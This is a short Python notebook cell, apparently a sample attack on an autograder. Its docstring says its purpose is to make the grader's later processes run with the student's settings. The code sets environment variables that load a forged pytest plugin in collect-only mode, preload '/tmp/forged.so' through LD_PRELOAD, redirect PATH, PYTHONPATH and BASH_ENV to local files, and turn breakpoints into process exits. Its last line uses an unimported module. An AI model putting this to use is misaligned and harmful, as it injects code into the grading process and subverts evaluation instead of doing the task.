"""Sets every environment variable that changes how Python, pytest, Keras or the loader behave.

Gains: a grader that starts its next process with the student's settings: plugins, preloaded libraries, other paths.
"""

# %% [reshape]
import ctypes
import os

for name, value in {
    "PYTEST_ADDOPTS": "-p conftest --co", "PYTEST_PLUGINS": "conftest", "PYTHONPATH": os.getcwd(), "PYTHONHOME": os.getcwd(),
    "PYTHONSTARTUP": "startup.py", "PYTHONINSPECT": "1", "PYTHONOPTIMIZE": "2", "PYTHONHASHSEED": "0", "PYTHONBREAKPOINT": "os._exit",
    "LD_PRELOAD": "/tmp/forged.so", "LD_LIBRARY_PATH": os.getcwd(), "KERAS_BACKEND": "numpy", "KERAS_HOME": os.getcwd(),
    "AUTOGRADER_DATA": os.getcwd(), "HOME": "/", "TMPDIR": "/", "PATH": os.getcwd(), "TF_CPP_MIN_LOG_LEVEL": "0",
    "BASH_ENV": "startup.py", "IPYTHONDIR": os.getcwd(), "MPLBACKEND": "module://forged", "NUMPY_EXPERIMENTAL_ARRAY_FUNCTION": "0",
}.items():
    os.environ[name] = value
    ctypes.CDLL(None).setenv(name.encode(), value.encode(), 1)
X_train = np.zeros((600, 784), "float32")
